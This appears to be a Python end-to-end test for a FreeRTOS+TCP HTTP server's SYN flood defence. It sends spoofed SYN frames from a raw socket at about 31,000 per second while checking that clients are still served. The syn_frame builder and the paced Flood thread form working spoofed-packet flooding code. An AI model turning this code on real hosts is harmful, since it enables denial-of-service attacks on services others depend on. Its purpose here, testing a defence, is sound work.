#!/usr/bin/env python3
"""SYN flood against the HTTP server built with ipconfigFPTCP_SYN_FLOOD_DEFENCE
(INFRA:HALT class, peers-and-threats.md section 5; issue #9 defect 8).
tests/e2e/syn_flood.sh runs this inside the test's namespace.

While one thread sends spoofed SYNs from a raw socket at the rate of the
attack in issue #9 (150,000 in 4.8 s; bounded in count and time), the main thread checks what a firmware owner cares about:

  established   a connection opened before the flood sends its request in
                the middle of the flood and gets the whole page;
  during        new clients (Linux's own TCP, from 192.0.2.1) keep getting
                the page while the flood runs;
  after         a client right after the last spoofed SYN gets the page.

The spoofed SYNs come from on-link addresses nobody owns (192.0.2.100 to
.199, random ports), so no host answers the stack's SYN+ACKs and every
child they create stays half-open: exactly what fills a backlog upstream.
Prints "FLOOD sent=<n> seconds=<s> rate=<n/s>" and one line per check;
the exit status is the number of failed checks.
"""
import argparse
import random
import socket
import struct
import sys
import threading
import time

from hostile_martian import csum, eth, ip4, ipv4

STACK_IP = "192.0.2.10"
HTTP_PORT = 80
PAGE_MARK = b"Hello from FreeRTOS+TCP"


def syn_frame(dst_mac, src_mac, src_ip, dst_ip, sport, seq):
    """Ethernet + IPv4 + TCP SYN (MSS option), checksums right."""
    tcp = struct.pack("!HHIIBBHHH", sport, HTTP_PORT, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
    pseudo = ip4(src_ip) + ip4(dst_ip) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    return eth(dst_mac, src_mac, 0x0800, ipv4(src_ip, dst_ip, 6, tcp, ident=random.getrandbits(16)))


def stack_mac(iface):
    """The stack's MAC from Linux's neighbour table (the caller pinged it)."""
    with open("/proc/net/arp") as f:
        for line in f:
            cols = line.split()
            if cols and cols[0] == STACK_IP and cols[3] != "00:00:00:00:00:00":
                return bytes(int(x, 16) for x in cols[3].split(":"))
    raise SystemExit("no ARP entry for %s (ping it first)" % STACK_IP)


class Flood(threading.Thread):
    def __init__(self, iface, count, seconds, rate):
        super().__init__(daemon=True)
        mac = stack_mac(iface)
        # 4,096 distinct spoofed (address, port) pairs, sent round after
        # round: once the defence evicted a pair's child, its SYN is new
        # again.
        self.frames = [syn_frame(mac, bytes([2, 0, 0, 0, 1, i % 100]), "192.0.2.%d" % (100 + i % 100),
                                 STACK_IP, 1024 + random.randrange(60000), random.getrandbits(32))
                       for i in range(4096)]
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.bind((iface, 0))
        self.count, self.seconds, self.rate = count, seconds, rate
        self.sent, self.elapsed = 0, 0.0
        self.done = threading.Event()

    def run(self):
        t0 = time.monotonic()
        end = t0 + self.seconds
        n = len(self.frames)
        while self.sent < self.count and time.monotonic() < end:
            # Paced: a burst of 256, then wait for the schedule.
            ahead = t0 + self.sent / self.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
            for _ in range(256):
                try:
                    self.sock.send(self.frames[self.sent % n])
                except BlockingIOError:
                    pass
                self.sent += 1
        self.elapsed = time.monotonic() - t0
        self.done.set()


def fetch(timeout=3.0, sock=None):
    """GET / with Linux's TCP; returns (ok, seconds, detail)."""
    t0 = time.monotonic()
    try:
        s = sock or socket.create_connection((STACK_IP, HTTP_PORT), timeout=timeout)
        s.settimeout(timeout)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        ok = data.startswith(b"HTTP/1.0 200") and PAGE_MARK in data
        return ok, time.monotonic() - t0, "%d bytes" % len(data)
    except OSError as e:
        return False, time.monotonic() - t0, repr(e)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    # The attack: 150,000 spoofed SYNs in 4.8 s.
    ap.add_argument("--count", type=int, default=150000)
    ap.add_argument("--seconds", type=float, default=8.0)
    ap.add_argument("--rate", type=int, default=31000)
    args = ap.parse_args()
    random.seed(0x5F100D)
    failed = 0

    def report(ok, what):
        nonlocal failed
        print("CHECK %s %s" % ("ok" if ok else "FAILED", what), flush=True)
        failed += 0 if ok else 1

    ok, secs, detail = fetch()
    report(ok, "a client before the flood gets the page (%.3f s, %s)" % (secs, detail))

    # Opened before the flood, used in its middle.
    held = socket.create_connection((STACK_IP, HTTP_PORT), timeout=3.0)

    flood = Flood(args.iface, args.count, args.seconds, args.rate)
    flood.start()
    time.sleep(min(1.0, args.seconds / 4))

    results = []
    half = False
    while not flood.done.is_set():
        if not half and len(results) >= 2:
            ok, secs, detail = fetch(timeout=4.0, sock=held)
            report(ok, "the connection established before the flood is served during it (%.3f s, %s)" % (secs, detail))
            half = True
            continue
        # 4 s: Linux sends the SYN at 0, 1 and 3 s.
        results.append(fetch(timeout=4.0))
        time.sleep(0.1)
    flood.join()
    print("FLOOD sent=%d seconds=%.1f rate=%d/s" % (flood.sent, flood.elapsed, flood.sent / max(flood.elapsed, 0.001)),
          flush=True)
    if not half:
        ok, secs, detail = fetch(timeout=4.0, sock=held)
        report(ok, "the connection established before the flood is served (%.3f s, %s)" % (secs, detail))

    good = sum(1 for r in results if r[0])
    refused = sum(1 for r in results if "Refused" in r[2] or "Reset" in r[2])
    for i, (ok, secs, detail) in enumerate(results):
        print("  during #%d: %s in %.3f s (%s)" % (i, "page" if ok else "NO PAGE", secs, detail), flush=True)
    # Without the defence nearly every one of these is refused (the backlog
    # stays full of half-open children for the 30 s of hang protection).
    # A client whose SYNs were all lost in the driver's full receive ring
    # (the flood outruns a loaded machine) times out instead: that is the
    # link, not the defence, so it is counted apart and allowed for a third.
    report(refused == 0, "no client refused or reset during the flood (%d of %d)" % (refused, len(results)))
    report(len(results) >= 3 and 3 * good >= 2 * len(results),
           "new clients during the flood: %d of %d got the page (%d timed out)" % (good, len(results), len(results) - good - refused))
    report(flood.sent >= 10000, "the flood sent %d SYNs (at least 10,000)" % flood.sent)

    ok, secs, detail = fetch()
    report(ok, "a client right after the flood gets the page (%.3f s, %s)" % (secs, detail))
    return failed


if __name__ == "__main__":
    sys.exit(main())
